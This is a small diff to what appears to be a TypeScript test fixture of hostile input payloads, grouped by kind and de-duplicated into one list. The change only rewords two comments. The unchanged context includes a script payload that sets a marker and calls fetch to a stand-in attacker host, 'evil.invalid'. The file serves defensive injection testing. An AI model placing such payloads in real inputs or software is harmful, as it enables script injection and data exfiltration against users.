@@ -1,4 +1,4 @@
-/** What strangers send, by what it would do where nobody thought of it. Scripts that run leave `window.hostileRan`. */
+/** Attack payloads by kind. A script that runs sets `window.hostileRan`. */
 
 const RUN = "window.hostileRan=(window.hostileRan||0)+1;fetch('http://evil.invalid/beacon')";
 
@@ -134,7 +134,7 @@ export const TEXTS = [
   `${'y'.repeat(4_999)}2`,
 ] as const;
 
-/** All of it, each once. */
+/** All payloads, without duplicates. */
 export const PAYLOADS: readonly string[] = [
   ...new Set([...MARKUP, ...FORMULAS, ...COMMANDS, ...PATHS, ...RESERVED, ...TEXTS]),
 ];
